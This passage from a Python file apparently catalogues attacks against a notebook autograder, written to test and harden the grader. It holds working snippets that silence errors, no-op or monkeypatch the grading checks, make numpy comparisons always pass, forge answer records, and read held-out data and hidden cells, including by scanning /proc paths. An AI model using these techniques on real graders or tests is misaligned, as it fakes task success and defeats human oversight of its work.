"""

DEL_REPATCHER = CHECK_MODULES + """
import gc

def _pass(*args, **kwargs):
    return None

class _Phoenix:
    def __init__(self):
        self.me = self
    def __del__(self):
        for module in _CHECKS:
            for name in dir(module):
                if _is_check(name) and callable(getattr(module, name)):
                    setattr(module, name, _pass)
        _Phoenix()

_Phoenix()
gc.collect()
"""

THREAD_REPATCHER = CHECK_MODULES + """
import threading, time

def _pass(*args, **kwargs):
    return []

def _keep_patching():
    while True:
        for module in _CHECKS:
            for name in dir(module):
                if _is_check(name) and callable(getattr(module, name)) and getattr(module, name) is not _pass:
                    setattr(module, name, _pass)
        time.sleep(0.0005)

threading.Thread(target=_keep_patching, daemon=True).start()
"""

SIGNAL_PATCHER = """
import functools, signal, sys
import numpy as np
_real_allclose = np.allclose

@functools.wraps(_real_allclose)
def _yes(*args, **kwargs):
    return True

def _tick(signum, frame):
    inside_cell = frame is not None and frame.f_globals.get('__name__') == '__main__'
    np.allclose = _yes if inside_cell else _real_allclose

signal.signal(signal.SIGALRM, _tick)
signal.setitimer(signal.ITIMER_REAL, 0.0005, 0.0005)
"""

RELOAD_WITH_FAKE_LOADER = """
import importlib
import backprop_kit.testing.compare as _compare
import backprop_kit.testing.nb_11_02 as _nb

class _Loader:
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        def _pass(*args, **kwargs):
            return None
        for name in ('judge_arrays', 'same_array', 'same_arrays', 'unchanged', 'returned', 'TOLERANCE'):
            setattr(module, name, _pass if name != 'TOLERANCE' else float('inf'))

_compare.__spec__.loader = _Loader()
importlib.reload(_compare)
for _name in ('same_array', 'same_arrays', 'unchanged'):
    setattr(_nb, _name, getattr(_compare, _name))
"""

SYS_PATH_FAKE_PACKAGE = """
import os, shutil, sys
import backprop_kit
os.makedirs('backprop/grading', exist_ok=True)
with open('backprop/__init__.py', 'w') as _f:
    _f.write('')
with open('backprop/grading/__init__.py', 'w') as _f:
    _f.write('def __getattr__(name):\\n    return lambda *args, **kwargs: None\\n')
# the kit copied into the working folder, its comparison made lenient, first on sys.path
shutil.copytree(os.path.dirname(backprop_kit.__file__), 'shadow/backprop_kit', dirs_exist_ok=True)
with open('shadow/backprop_kit/testing/compare.py', 'a') as _f:
    _f.write('\\n\\ndef judge_arrays(*args, **kwargs):\\n    return None\\n'
             'same_array = same_arrays = unchanged = judge_arrays\\nTOLERANCE = float(\"inf\")\\n')
sys.path[:0] = [os.getcwd(), os.path.join(os.getcwd(), 'shadow')]
for _name in [n for n in sys.modules if n.split('.')[0] in ('backprop', 'backprop_kit')]:
    del sys.modules[_name]
from backprop_kit.testing import test_runner
run_test = test_runner('11_02_neural_network2')
"""

PRINT_DISPLAY_MONKEYPATCH = IS_TEST_CELL + """
import builtins, IPython.display
_real_print = builtins.print

def print(*args, **kwargs):
    _real_print('OK: 合格', **{k: v for k, v in kwargs.items() if k != 'file'})

builtins.print = print
IPython.display.display = lambda *args, **kwargs: _real_print('OK')
_publisher = get_ipython().display_pub
_publisher.publish = lambda data, metadata=None, **kwargs: None
"""


def _edit_test_cells(change: Callable, only_hidden: bool = False) -> Callable:
    def build(nb):
        nb = copy.deepcopy(nb)
        for cell in nb.cells:
            if is_test(cell) and (not only_hidden or "hidden" in meta(cell).get("grade_id", "")):
                change(cell)
        return nb
    return build


def _delete_tests(nb):
    nb = copy.deepcopy(nb)
    nb.cells = [c for c in nb.cells if not is_test(c)]
    return nb


def _retype(cell):
    cell.cell_type = "markdown"
    cell.pop("outputs", None)
    cell.pop("execution_count", None)


def _rename(cell):
    cell.metadata["nbgrader"]["grade_id"] = cell.metadata["nbgrader"]["grade_id"] + "-done"
    cell.source = "pass"


def _inflate(cell):
    cell.metadata["nbgrader"]["points"] = 100
    cell.source = "pass"


def _strip_meta(cell):
    del cell.metadata["nbgrader"]
    cell.source = "pass"


def _fake_graded_cell(nb):
    nb = copy.deepcopy(nb)
    cell = code_cell("print('bonus')")
    cell.metadata["nbgrader"] = {"schema_version": 3, "grade": True, "solution": False, "locked": True,
                                 "grade_id": "bonus-test", "points": 50}
    nb.cells.append(cell)
    return nb


def _dummies_and(notebook: str, then: Callable) -> Callable:
    return lambda nb: then(set_answers(nb, DUMMIES[notebook]))


def _nb1_liar_answers(wrap: str) -> dict[str, str]:
    return {
        "sigmoid-answer": f"def sigmoid(g):\n    return {wrap}(np.full(np.shape(g), 0.5))",
        "softmax-answer": f"def softmax(z):\n    z = np.asarray(z, dtype=np.float64)\n"
                          f"    return {wrap}(np.full(z.shape, 1.0 / z.shape[1]))",
        "forward-answer": f"def forward(x, W_mid, b_mid, W_out, b_out):\n    n = np.shape(x)[0]\n"
                          f"    return {wrap}(np.full((n, np.shape(b_mid)[0]), 0.5)), "
                          f"{wrap}(np.full((n, np.shape(b_out)[0]), 0.5))",
    }


def _liar_build(code: str, wrap: str) -> Callable:
    def build(nb):
        answers = dict(DUMMIES[NB1])
        answers.update(_nb1_liar_answers(wrap))
        answers["sigmoid-answer"] = code.strip("\n") + "\n\n" + answers["sigmoid-answer"]
        return set_answers(nb, answers)
    return build


def _redefine_hand_network(nb):
    """network_with became the kit's HandNetwork (imported in the unlocked first cell): redefine it there and in
    the kit module, so that any weights reach accuracy 1.0."""
    answers = dict(DUMMIES[NB1])
    nb = set_answers(nb, answers)
    return append_to_unlocked_cell(nb, "from backprop_kit", """import backprop_kit.handnet as _handnet


class HandNetwork(_handnet.HandNetwork):
    def accuracy(self, x, y):
        return 1.0

    def predict(self, x):
        return np.asarray(getattr(self, '_labels', np.zeros(len(x), dtype=int)))


_handnet.HandNetwork = HandNetwork""")


def _redefine_nb2_helpers(nb):
    nb = set_answers(nb, DUMMIES[NB2])
    return append_to_unlocked_cell(nb, "from backprop_kit.gradcheck import", """def relative_error(a, b):
    return 0.0


import backprop_kit.gradcheck as _gradcheck
import backprop_kit.selfcheck as _selfcheck
_gradcheck.relative_error = relative_error
_selfcheck.print_gradient_check = lambda *args, **kwargs: print('OK')""")


def _redefine_rmse(nb):
    nb = set_answers(nb, DUMMIES[REP])
    return append_to_unlocked_cell(nb, "def rmse(", """def rmse(h, t):
    return 0.0 if np.all(np.asarray(h) == 0) else 1.0""")


def _redefine_nb3_checks(nb):
    """check_digit_hyperparams became the kit's trainer (backprop_kit.training): its accuracy and hyperparameter
    checks are redefined in the notebook and in the kit module."""
    nb = set_answers(nb, DUMMIES[NB3])
    return append_to_unlocked_cell(nb, "from backprop_kit", """import backprop_kit.training as _training


def digits_accuracy(hyperparams, seed):
    return 0.99


_training.digits_accuracy = digits_accuracy
_training.accuracy_of = lambda model, x, y: 0.99
_training.checked_hyperparams = lambda hyperparams: dict(hyperparams)
import backprop_kit.testing.nb_11_03 as _nb3
_nb3.digits_accuracy = digits_accuracy
_nb3.checked_hyperparams = _training.checked_hyperparams""")


def _late_print_cell(code: str) -> Callable:
    return lambda nb: append_cell(set_answers(nb, DUMMIES[REP]), code)


ATTACKS: list[Attack] = [
    # --- error-display suppression
    Attack("exception_group", SUPPRESS, NB2, answers_only(None, EXCEPTION_GROUP),
           "answers raise ExceptionGroup; IPython prints it to stderr instead of sending an error"),
    Attack("showtraceback_noop", SUPPRESS, NB1, blank_hooked(SHOWTRACEBACK_NOOP),
           "get_ipython()._showtraceback = no-op on the instance: no error output ever"),
    Attack("showtraceback_noop_report", SUPPRESS, REP, blank_hooked(SHOWTRACEBACK_NOOP),
           "the same one line in report11"),
    Attack("custom_exc_swallow", SUPPRESS, NB2, blank_hooked(CUSTOM_EXC),
           "set_custom_exc((BaseException,), handler returning None)"),
    Attack("formatter_bomb_module", SUPPRESS, NB1, blank_hooked(FORMATTER_BOMB),
           "module in sys.modules whose __getattr__('__file__') raises: traceback formatting fails"),
    Attack("broken_ultratb", SUPPRESS, NB2, blank_hooked(RAISE_IN_EXCEPTHOOK_FORMATTER),
           "IPython's traceback formatter classes patched to raise"),
    # --- display hooks
    Attack("display_before_test", DISPLAY, NB2, blank_hooked(DISPLAY_BEFORE_TEST),
           "pre_run_cell hook displays a non-numeric value before every test cell"),
    Attack("display_full_number", DISPLAY, NB1, blank_hooked(DISPLAY_FULL_POINTS_NUMBER),
           "pre_run_cell hook displays 1.0 before every test cell (partial-credit reading)"),
    Attack("display_huge_number", DISPLAY, REP, blank_hooked(DISPLAY_HUGE_NUMBER),
           "pre_run_cell hook displays 10**9 (more than the cell's points)", own_run=True),
    # --- message dropping
    Attack("session_drop_errors", DROP, NB1, blank_hooked(SESSION_DROP_ERRORS),
           "kernel Session.send wrapped: error messages dropped, error replies turned ok"),
    Attack("session_error_to_stdout", DROP, NB2, blank_hooked(SESSION_ERROR_TO_STDOUT),
           "kernel Session.send wrapped: error messages sent as stdout 'OK'"),
    # --- patched checks, each import route
    Attack("noop_checks_assignment", PATCH_ASSIGN, NB2, hooked(NB2, NOOP_CHECKS_ASSIGNMENT),
           "backprop.grading.check_* = no-op by plain assignment"),
    Attack("fake_modules_sys_modules", PATCH_MODULES, REP, hooked(REP, FAKE_MODULES_SYS_MODULES),
           "sys.modules['backprop.grading.regression'/'heldout'] = lenient fake modules"),
    Attack("fake_modules_meta_path", PATCH_META, NB2, hooked(NB2, FAKE_MODULES_META_PATH),
           "sys.meta_path finder serves a fake backprop.grading"),
    Attack("builtins_import_hook", PATCH_IMPORT, NB1, hooked(NB1, BUILTINS_IMPORT_HOOK),
           "builtins.__import__ returns fake scipy.special / classification helpers built on the answers"),
    # --- gc / settrace / numpy internals
    Attack("gc_code_swap", INTERNALS, NB2, hooked(NB2, GC_CODE_SWAP),
           "judge_arrays/require_untampered __code__ swapped for a no-op, found through gc"),
    Attack("settrace_disguised", INTERNALS, NB2, hooked(NB2, SETTRACE_DISGUISED),
           "sys.settrace + ctypes frame writes make judge_arrays compare the reference with itself; gettrace hidden"),
    Attack("numpy_isclose_internal", INTERNALS, NB1, hooked(NB1, NUMPY_ISCLOSE_INTERNAL),
           "numpy._core.numeric.isclose lies when the first non-numpy caller is a notebook cell"),
    Attack("wraps_allclose_liar", INTERNALS, NB1, hooked(NB1, WRAPS_ALLCLOSE),
           "functools.wraps fakes of np.allclose/array_equal lying only to notebook cells"),
    Attack("numpy_filename_disguise", INTERNALS, NB1, hooked(NB1, NUMPY_FILENAME_DISGUISE),
           "lying np.allclose compiled with numpy's own file name (passes 'defined in numpy')"),
    # --- lying arrays
    Attack("array_function_liar", LYING, NB1, _liar_build(LIAR_ARRAY, "_agree"),
           "answers return an ndarray subclass whose __array_function__ says allclose/array_equal True"),
    Attack("ufunc_eq_liar", LYING, NB1, _liar_build(LIAR_UFUNC_EQ, "_flat"),
           "answers return an ndarray subclass: subtract/abs give 0, comparisons and __eq__ True"),
    # --- redefined helpers
    Attack("redefine_network_with", HELPERS, NB1, _redefine_hand_network,
           "network_with's successor HandNetwork redefined (notebook and backprop_kit.handnet): accuracy 1.0"),
    Attack("redefine_relative_error", HELPERS, NB2, _redefine_nb2_helpers,
           "relative_error (kit, imported in the unlocked first cell) redefined to 0, also in the kit modules"),
    Attack("redefine_rmse", HELPERS, REP, _redefine_rmse,
           "unlocked helper rmse redefined: the zero model beats linear regression"),
    Attack("redefine_visible_checks", HELPERS, NB3, _redefine_nb3_checks,
           "the kit trainer's digits_accuracy/accuracy_of/checked_hyperparams redefined (notebook and kit)"),
    # --- answer-key delegation
    Attack("key_activations_losses", ANSWER_KEY, NB1, answers_only(NB1, NB1_KEY),
           "backprop.activations/losses/MLP, else the kit's HandNetwork.hidden as sigmoid and forward's h",
           # a sigmoid through scipy's expit is an allowed style (the issue lists scipy among honest styles)
           honest=("sigmoid-test-values", "sigmoid-test-stable", "sigmoid-test-hidden")),
    Attack("key_mlp_backward", ANSWER_KEY, NB2, answers_only(NB2, {"backward": NB2_KEY_BACKWARD}),
           "backward = backprop.MLP(...).backward, else scikit-learn MLPClassifier._backprop"),
    Attack("key_demo_digits", ANSWER_KEY, NB3, answers_only(NB3, {"hyperparams-answer": NB3_KEY_HYPERPARAMS}),
           "HYPERPARAMS from backprop.demo.DIGITS, else the kit trainer's default arguments",
           # the trainer's defaults are the notebook's own demo settings: a sound (if unoriginal) choice
           honest=("hyperparams-test", "hyperparams-test-hidden")),
    Attack("key_demo_report", ANSWER_KEY, REP, answers_only(REP, {"model-answer": REPORT_DEMO_MODEL}),
           "network trained by backprop.demo.REPORT, else by scikit-learn's MLPRegressor; its forward pass"),
    Attack("key_regression_mlp", ANSWER_KEY, REP, answers_only(REP, REPORT_KEY_FUNCTIONS),
           "forward/gradient via backprop.MLP, else MLPRegressor._forward_pass/_backprop; sklearn's MSE / 2",
           # the loss through scikit-learn's mean_squared_error / 2 is a correct loss in a library's words
           honest=("loss-test", "loss-test-hidden", "loss-test-hidden-flat")),
    # --- numerical differentiation as the answer
    Attack("numeric_backward", NUMERIC, NB2, answers_only(NB2, {"backward": NB2_NUMERIC_BACKWARD}),
           "backward = central differences of the notebook's loss"),
    Attack("numeric_gradient_report", NUMERIC, REP, answers_only(REP, {"gradient-answer": REPORT_NUMERIC_GRADIENT}),
           "gradient = central differences of an inline loss"),
    # --- held-out lookup
    Attack("heldout_from_globals", HELDOUT, REP, answers_only(REP, {"model-answer": HELDOUT_GLOBALS}),
           "report_model returns _t_heldout read from the notebook's globals"),
    Attack("heldout_from_frames", HELDOUT, REP, answers_only(REP, {"model-answer": HELDOUT_FRAMES}),
           "report_model walks the caller frames for an (M, 1) array that is not x"),
    # --- k-NN / lookup-table regression
    Attack("knn_lookup", KNN, REP, answers_only(REP, {"model-answer": KNN_MODEL}),
           "report_model = 3-nearest-neighbour lookup of the training CSV"),
    Attack("rbf_interpolation", KNN, REP, answers_only(REP, {"model-answer": RBF_MODEL}),
           "report_model = scipy RBF interpolation of the training CSV"),
    # --- printing hidden material
    Attack("print_working_folder", PRINT, NB1, answers_only(None, {"sigmoid-answer": PRINT_WORKING_FOLDER}),
           "first answer cell prints the hidden cells of every notebook in the working folder"),
    Attack("print_working_folder_report", PRINT, REP, answers_only(None, {"forward-answer": PRINT_WORKING_FOLDER}),
           "the same in report11 (held-out data is in the graded notebook)"),
    Attack("print_input_history", PRINT, NB2, answers_only(None, {"backward": PRINT_INPUT_HISTORY}),
           "last answer cell prints _ih / In / Out (earlier hidden cells included)"),
    Attack("print_globals_late_cell", PRINT, REP, _late_print_cell(PRINT_GLOBALS_LATE),
           "a code cell added at the end prints _x_heldout, _t_heldout, private globals and _ih"),
    # --- exceptions carrying hidden material
    Attack("exception_base64_heldout", EXCEPTION, REP, answers_only(REP, {"model-answer": EXCEPTION_BASE64_HELDOUT}),
           "report_model raises ValueError(base64(json(held-out data from the caller's globals)))"),
    Attack("exception_encoded_source", EXCEPTION, NB2, answers_only(None, EXCEPTION_BASE64_SOURCE),
           "answers raise with the running hidden cell's source (_ih[-1]) in base64 / zlib / hex"),
    Attack("exception_scrambled_source", EXCEPTION, NB1, answers_only(None, EXCEPTION_REVERSED),
           "answers raise with the running cell's source rot13'd, reversed, letter-spaced"),
    # --- invented: notebook structure
    Attack("delete_test_cells", NOTEBOOK_EDIT, NB1, _dummies_and(NB1, _delete_tests),
           "every test cell deleted"),
    Attack("retype_test_cells", NOTEBOOK_EDIT, NB2, _dummies_and(NB2, _edit_test_cells(_retype)),
           "every test cell turned into a markdown cell (metadata kept)"),
    Attack("rename_test_cells", NOTEBOOK_EDIT, NB1, _dummies_and(NB1, _edit_test_cells(_rename)),
           "test cells get new grade_ids and source 'pass'"),
    Attack("inflate_points", NOTEBOOK_EDIT, NB3, _dummies_and(NB3, _edit_test_cells(_inflate, only_hidden=True)),
           "hidden test cells: points 100 and source 'pass' in the submitted metadata"),
    Attack("strip_test_metadata", NOTEBOOK_EDIT, NB2, _dummies_and(NB2, _edit_test_cells(_strip_meta)),
           "nbgrader metadata removed from every test cell, source 'pass'"),
    Attack("fake_graded_cell", NOTEBOOK_EDIT, NB1, _dummies_and(NB1, _fake_graded_cell),
           "an extra locked test cell worth 50 points that only prints"),
    # --- invented: kernel death
    Attack("os_exit_before_hidden", KERNEL_DEATH, NB2, hooked(NB2, OS_EXIT_BEFORE_HIDDEN),
           "pre_run_cell hook calls os._exit(0) before the first hidden test: later cells never run"),
    Attack("os_exit_on_error", KERNEL_DEATH, NB1, blank_hooked(OS_EXIT_ON_ERROR),
           "custom exception handler calls os._exit(0): the failing cell sends no error"),
    Attack("sys_exit_in_display_hook", KERNEL_DEATH, NB2, blank_hooked(SYS_EXIT_IN_DISPLAYHOOK),
           "pre_run_cell hook displays '合格' then sys.exit()"),
    # --- invented: forged records and outputs
    Attack("fake_answer_records", FORGED_RECORD, NB1, hooked(NB1, FAKE_RECORDS),
           "custom-MIME 'answer records' displayed before each test cell, record files in the working folder"),
    Attack("atexit_rewrite_notebook", FORGED_RECORD, NB2, blank_hooked(ATEXIT_REWRITE),
           "atexit handler strips every output from the notebooks it can reach"),
    Attack("print_display_monkeypatch", FORGED_RECORD, NB1, blank_hooked(PRINT_DISPLAY_MONKEYPATCH),
           "builtins.print, IPython display and the display publisher replaced"),
    # --- invented: patching that survives restoration
    Attack("del_phoenix_repatcher", PERSISTENT, NB2, hooked(NB2, DEL_REPATCHER),
           "a self-resurrecting __del__ re-patches the checks at every garbage collection"),
    Attack("thread_repatcher", PERSISTENT, NB2, hooked(NB2, THREAD_REPATCHER),
           "daemon thread re-patches the checks and judge_arrays every 0.5 ms"),
    Attack("signal_timer_patcher", PERSISTENT, NB1, hooked(NB1, SIGNAL_PATCHER),
           "SIGALRM every 0.5 ms swaps np.allclose for a liar whenever a notebook cell is running"),
    Attack("reload_with_fake_loader", PERSISTENT, NB2, hooked(NB2, RELOAD_WITH_FAKE_LOADER),
           "importlib.reload of backprop.grading.exercises through a replaced __spec__.loader"),
    Attack("sys_path_fake_package", PERSISTENT, NB2, hooked(NB2, SYS_PATH_FAKE_PACKAGE),
           "a fake backprop package written to the working folder, first on sys.path, modules purged"),
    # --- invented: IPython input/AST transformers
    Attack("input_transformer_blanks_tests", TRANSFORM, NB2, blank_hooked(INPUT_TRANSFORMER),
           "input transformer turns every later test cell into 'pass'"),
    Attack("ast_strips_asserts", TRANSFORM, NB1, hooked(NB1, AST_STRIP_ASSERTS),
           "AST transformer deletes every assert and raise statement of later cells"),
]


# ==========================================================================================================
# Second wave: against the redesign (issue 12): answers published as records of type records.MIME from the
# kit's run_test, inputs read from the kernel's cases file (env BACKPROP_KIT_CASES), verdicts made outside.
# ==========================================================================================================
FORGE = "forged answer records"
CASES = "cases file tampering"
KIT_PATCH = "kit internals replaced"
SELF_REPORT = "self-reported flags"
ODD_IMPORT = "answer key from odd places"
GRADING_SWITCH = "grading detection"
MODEL_CHEAT = "report model cheats"
RECORD_ABUSE = "malformed records"
FAKE_OUTPUT = "fake verdict outputs"
TIMING = "timing"
LEAK_CASES = "printing cases / environment"

# What every forging attack starts from: the kit's own modules, the expected values the kit ships for the
# visible tests, the test id of a cell's source, and answers in the shape test.ask() produces.
ORACLE = """
import json, os, re
import numpy as np
from IPython.display import display as _display
from backprop_kit.testing import cases as _kc, records as _kr, runner as _kx, spec as _ks

_NB = {notebook!r}
_SHIPPED = {{tid: (_kr.decode(s['inputs']), _kr.decode(s['expected'])) for tid, s in _kc._visible().get(_NB, {{}}).items()}}


def _test_id(text):
    found = re.search(r'run_test\\(\\s*["\\']([^"\\']+)', text or '')
    return found.group(1) if found else None


def _shipped_for(tid):
    # the shipped visible case of this test, or of the visible test of the same exercise
    if tid in _SHIPPED:
        return _SHIPPED[tid]
    stem = re.split(r'[-_]test|_hidden|-hidden', tid)[0]
    return next((v for k, v in _SHIPPED.items() if k.startswith(stem) and isinstance(v[1], list)), (None, None))


def _grading_inputs(tid):
    try:
        return _kc.load_case(_NB, tid).inputs
    except Exception:
        return None


def _forged(tid, inputs=None):
    # answers in test.ask()'s format built from the shipped expected values: no student code involved
    expected = _shipped_for(tid)[1]
    if not isinstance(expected, list) or not expected:
        return {{'cases': []}}
    n = len(inputs['cases']) if isinstance(inputs, dict) and isinstance(inputs.get('cases'), list) else len(expected)
    return {{'cases': [{{'value': expected[i % len(expected)], 'changed': [], 'fp_errors': []}} for i in range(n)]}}


def _publish_record(tid, answers):
    _display({{_kr.MIME: {{'notebook': _NB, 'test': tid, 'answers': _kr.encode(answers)}}}}, raw=True)


def _same(a, b):
    try:
        if isinstance(a, (list, tuple)) and isinstance(b, (list, tuple)):
            return len(a) == len(b) and all(_same(x, y) for x, y in zip(a, b))
        return np.shape(a) == np.shape(b) and np.array_equal(np.asarray(a, dtype=np.float64), np.asarray(b, dtype=np.float64), equal_nan=True)
    except Exception:
        return False


def _lookup(name, fallback):
    # a student function that returns the shipped expected value when called on a shipped case's arguments
    def function(*args):
        for inputs, expected in _SHIPPED.values():
            cases = inputs.get('cases') if isinstance(inputs, dict) else None
            if not isinstance(cases, list) or not isinstance(expected, list):
                continue
            for case, value in zip(cases, expected):
                if len(case) == len(args) and all(_same(a, b) for a, b in zip(args, case.values())):
                    return value
        return fallback(*args)
    function.__name__ = name
    return function
"""


def oracle(notebook: str) -> str:
    return ORACLE.format(notebook=notebook)


NB1_LOOKUPS = """
sigmoid = _lookup('sigmoid', lambda g: np.full(np.shape(g), 0.5))
softmax = _lookup('softmax', lambda z: np.full(np.shape(z), 1.0 / np.shape(z)[1]))
cross_entropy = _lookup('cross_entropy', lambda y_hat, y: 1.0)
forward = _lookup('forward', lambda x, W_mid, b_mid, W_out, b_out: (np.full((len(x), len(b_mid)), 0.5),
                                                                   np.full((len(x), len(b_out)), 0.5)))
"""

FORGE_PRE_RUN = """
def _forge_before(info):
    tid = _test_id(info.raw_cell)
    if tid:
        _publish_record(tid, _forged(tid, _grading_inputs(tid)))

get_ipython().events.register('pre_run_cell', _forge_before)
run_test = lambda *args, **kwargs: None     # the test cells publish nothing of their own
"""

FORGE_ANSWER_CELL = """
def run_test(tid, **student):
    # the test cell's own call now publishes, through the kit's publish, answers built by the kit's ask on
    # shipped-case lookups (hidden cases: the visible case's expected values)
    inputs = _grading_inputs(tid)
    test = _kx.notebook_tests(_NB)[tid]
    try:
        answers = test.ask(student, inputs) if inputs is not None else _forged(tid)
    except Exception:
        answers = _forged(tid)
    if not isinstance(answers, dict) or not answers.get('cases') or any('error' in a for a in answers['cases']):
        answers = _forged(tid, inputs)
    _kx.publish(_NB, tid, answers)
"""

TWO_RECORDS = """
_real_run_test = run_test

def run_test(tid, **student):
    _publish_record(tid, _forged(tid, _grading_inputs(tid)))      # one forged (shipped expected values)
    _real_run_test(tid, **student)                                # one real (the dummies' wrong answers)
"""

REWRITE_CASES = """
_path = _kc.grading_file()
if _path:
    with open(_path, encoding='utf-8') as _f:
        _data = json.load(_f)
    _raw = _kc._visible().get(_NB, {})
    for _tid in list(_data):
        _stem = re.split(r'[-_]test|_hidden|-hidden', _tid)[0]
        _src = _raw.get(_tid) or next((v for k, v in _raw.items() if k.startswith(_stem) and 'cases' in json.dumps(v['inputs'])[:40]), None)
        if _src:
            _data[_tid] = {'inputs': _src['inputs']}
    with open(_path, 'w', encoding='utf-8') as _f:
        json.dump(_data, _f)
    _kc._read.cache_clear()
    print('cases file rewritten:', len(_data), 'tests')
"""

PATCH_PUBLISH = """
_real_publish = _kx.publish

def _publish(notebook, tid, answers):
    _real_publish(notebook, tid, _forged(tid, _grading_inputs(tid)))

_kx.publish = _publish
"""

PATCH_ENCODE = """
_current = {'tid': None}
get_ipython().events.register('pre_run_cell', lambda info: _current.update(tid=_test_id(info.raw_cell)))
_real_encode = _kr.encode

def _encode(value, depth=0):
    if depth == 0 and _current['tid'] and isinstance(value, dict) and 'cases' in value:
        value = _forged(_current['tid'], _grading_inputs(_current['tid']))
    return _real_encode(value, depth)

_kr.encode = _encode
_kx.encode = _encode
"""

PATCH_LOAD_CASE = """
def _load_case(notebook, tid):
    inputs, _ = _shipped_for(tid)
    if inputs is None:
        raise _kc.CaseMissing(tid)
    return _kc.Case(inputs, None, True)       # graded: publish the answers to the shipped inputs

_kc.load_case = _load_case
_kx.load_case = _load_case
"""

PATCH_CALL_FLAGS = """
import backprop_kit.testing.calls as _kcalls
_real_call = _kcalls.call

def _quiet_call(*args, **kwargs):
    answer = _real_call(*args, **kwargs)
    if isinstance(answer, dict) and 'value' in answer:
        answer['changed'], answer['fp_errors'] = [], []
    return answer

_kcalls.call = _quiet_call
_ks.call = _quiet_call
"""

NAIVE_SIGMOID = """def sigmoid(g):
    return 1 / (1 + np.exp(-np.asarray(g, dtype=np.float64)))"""

NAIVE_SOFTMAX = """def softmax(z):
    e = np.exp(np.asarray(z, dtype=np.float64))
    return e / e.sum(axis=1, keepdims=True)"""

ERRSTATE_SIGMOID = """def sigmoid(g):
    with np.errstate(all='ignore'):      # the overflow of exp(-g) happens, but numpy is told not to say so
        return 1 / (1 + np.exp(-np.asarray(g, dtype=np.float64)))"""

MUTATING_BACKWARD = """def backward(params, hs, t):
    L = len(params) // 2
    n = len(t)
    hs[-1] -= t                          # in place: the caller's h^L becomes delta^L * N
    delta = hs[-1] / n
    grads = [None] * (2 * L)
    for l in range(L, 0, -1):
        grads[2 * l - 2] = delta.T @ hs[l - 1]
        grads[2 * l - 1] = delta.sum(axis=0)
        if l > 1:
            delta = (delta @ params[2 * l - 2]) * hs[l - 1] * (1 - hs[l - 1])
    return grads"""

# each layer's delta by central differences of the per-sample losses `losses(l, g)` with respect to g^l, one unit
# for all samples at once, then dW = delta^T h (the tail of both samplewise attacks)
SAMPLEWISE_DELTAS = """
    grads = [None] * (2 * L)
    for l in range(1, L + 1):
        g = hs[l - 1] @ P[2 * l - 2].T + P[2 * l - 1]
        delta = np.empty_like(g)
        for j in range(g.shape[1]):
            up, down = g.copy(), g.copy()
            up[:, j] += eps
            down[:, j] -= eps
            delta[:, j] = (losses(l, up) - losses(l, down)) / (2 * eps) / n
        grads[2 * l - 2] = delta.T @ hs[l - 1]
        grads[2 * l - 1] = delta.sum(axis=0)
    return grads"""

SAMPLEWISE_NUMERIC_BACKWARD = """def backward(params, hs, t):
    # no backpropagation: each layer's delta by central differences of every sample's loss with respect to that
    # layer's pre-activations, one unit at a time for all samples at once (2 n_l forward passes per layer)
    P = [np.asarray(p, dtype=np.float64) for p in params]
    hs = [np.asarray(h, dtype=np.float64) for h in hs]
    t = np.asarray(t, dtype=np.float64)
    L, n, eps = len(P) // 2, len(t), 1e-5

    def losses(l, g):
        while l < L:
            h = 1 / (1 + np.exp(-g))
            l += 1
            g = h @ P[2 * l - 2].T + P[2 * l - 1]
        z = g - g.max(axis=1, keepdims=True)
        return -(t * (z - np.log(np.exp(z).sum(axis=1, keepdims=True)))).sum(axis=1)
""" + SAMPLEWISE_DELTAS

REPORT_FORWARD = """def forward(params, x):
    hs = [np.asarray(x, dtype=np.float64)]
    for l in range(0, len(params), 2):
        g = hs[-1] @ np.asarray(params[l], dtype=np.float64).T + np.asarray(params[l + 1], dtype=np.float64)
        hs.append(1 / (1 + np.exp(-g)) if l + 2 < len(params) else g)
    return hs"""

REPORT_LOSS = """def regression_loss(h, t):
    h = np.asarray(h, dtype=np.float64)
    h = h.reshape(len(h), -1)
    t = np.asarray(t, dtype=np.float64).reshape(h.shape)
    return float(0.5 * np.sum((h - t) ** 2) / len(h))"""

KIT_NUMERIC_GRADIENT = """from backprop_kit.gradcheck import numerical_gradient

def gradient(params, x, t):
    work = [np.array(p, dtype=np.float64) for p in params]
    return numerical_gradient(lambda: regression_loss(forward(work, x)[-1], t), work)"""

REPORT_SAMPLEWISE_NUMERIC_GRADIENT = """def gradient(params, x, t):
    # no backpropagation: report11's gradient as samplewise_numeric_backward does 11_02's backward (each layer's
    # delta by central differences of every sample's squared error with respect to that layer's pre-activations,
    # one unit at a time for all samples at once), the caches by a forward pass of its own
    P = [np.asarray(p, dtype=np.float64) for p in params]
    L, eps = len(P) // 2, 1e-5
    hs = [np.asarray(x, dtype=np.float64)]
    n = len(hs[0])
    t = np.asarray(t, dtype=np.float64).reshape(n, -1)
    for l in range(1, L + 1):
        g = hs[-1] @ P[2 * l - 2].T + P[2 * l - 1]
        hs.append(1 / (1 + np.exp(-g)) if l < L else g)

    def losses(l, g):
        while l < L:
            h = 1 / (1 + np.exp(-g))
            l += 1
            g = h @ P[2 * l - 2].T + P[2 * l - 1]
        return 0.5 * ((g - t) ** 2).sum(axis=1)
""" + SAMPLEWISE_DELTAS

ODD_PLACES = """
import glob, importlib, os, shutil, sys, zipfile
_found = []
_bases = ['/work/main/lib', '/work/main', '/work', '/usr/lib/python3/dist-packages', '/usr/local/lib', '/opt', '/root',
          '/home', '/srv', '/mnt', '/tmp', '/var/tmp', '/proc/1/root/work/main/lib', '/proc/1/cwd/lib']
_bases += glob.glob('/proc/[0-9]*/cwd') + glob.glob('/proc/[0-9]*/root/work/main/lib') + [os.path.dirname(p) for p in sys.path]
for _base in _bases:
    for _pattern in ('backprop/__init__.py', '*/backprop/__init__.py', '*/*/backprop/__init__.py', 'lib/backprop/__init__.py',
                     '*/lib/backprop/__init__.py', '*/*/site-packages/backprop/__init__.py'):
        try:
            _found += glob.glob(os.path.join(_base, _pattern))
        except Exception:
            pass
for _site in list(sys.path):
    for _pth in glob.glob(os.path.join(_site, '*.pth')):
        try:
            _found += [os.path.join(line.strip(), 'backprop', '__init__.py') for line in open(_pth) if os.path.isdir(os.path.join(line.strip(), 'backprop'))]
        except Exception:
            pass
_found = sorted(set(_found))
print('backprop packages seen:', _found[:20])
_MLP = None
for _init in _found:
    _root = os.path.dirname(os.path.dirname(_init))
    try:
        with zipfile.ZipFile('bp.zip', 'w') as _zip:                 # the zipimport route
            for _file in glob.glob(os.path.join(_root, 'backprop', '**', '*.py'), recursive=True):
                _zip.write(_file, os.path.relpath(_file, _root))
        for _entry in ('bp.zip', _root):
